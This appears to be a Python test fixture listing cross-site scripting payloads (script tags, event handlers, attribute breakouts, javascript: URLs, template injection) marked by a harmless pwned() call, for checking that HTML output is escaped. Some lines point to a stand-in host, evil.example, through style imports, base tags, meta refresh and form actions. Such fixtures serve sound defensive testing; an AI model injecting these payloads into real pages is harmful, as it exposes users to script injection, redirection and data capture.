"""Texts that would do something in a page that took them as HTML, and one word to find them by."""

from __future__ import annotations

from typing import Final

PAYLOADS: Final = (
    "<script>pwned()</script>",
    "</script><script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    '"><script>pwned()</script>',
    "'><img src=x onerror=pwned()>",
    '" onfocus=pwned() autofocus x="',
    "' onmouseover='pwned()",
    "<iframe srcdoc='<script>pwned()</script>'></iframe>",
    "<a href=javascript:pwned()>x</a>",
    "javascript:pwned()",
    "</textarea><script>pwned()</script>",
    "</title><script>pwned()</script>",
    "</td></tr></table><script>pwned()</script>",
    "<!--><script>pwned()</script>-->",
    "<math><mtext><script>pwned()</script>",
    "<style>@import 'http://evil.example/pwned'</style>",
    "<base href=http://evil.example/pwned/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/pwned'>",
    "<form action=http://evil.example/pwned><button>pwned</button></form>",
    "{{ 7 * 7 }}{% set pwned = 1 %}",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "\u2028<script>pwned()</script>",
    "<details open ontoggle=pwned()>",
)
MORE: Final = (
    "<ScRiPt>pwned()</sCrIpT>",
    "<script\n>pwned()</script>",
    "<script/x>pwned()</script>",
    "<<script>pwned()//<</script>",
    "<img src=x onerror=pwned()//",
    "<img/src=x/onerror=pwned()>",
    "<img src=x onerror=&#112;wned()>",
    "<body onload=pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<select autofocus onfocus=pwned()><option>x</select>",
    "<video><source onerror=pwned()></video>",
    "<audio src=x onerror=pwned()></audio>",
    "<object data=javascript:pwned()></object>",
    "<embed src=javascript:pwned()>",
    "<marquee onstart=pwned()>x</marquee>",
    "<a href='java\tscript:pwned()'>x</a>",
    "data:text/html,<script>pwned()</script>",
    "--></option></select><script>pwned()</script>",
    "]]><script>pwned()</script>",
    "${pwned()}`;pwned()//",
)
"""Further ones, tried in a browser alone: there what runs is seen, and not only what might."""
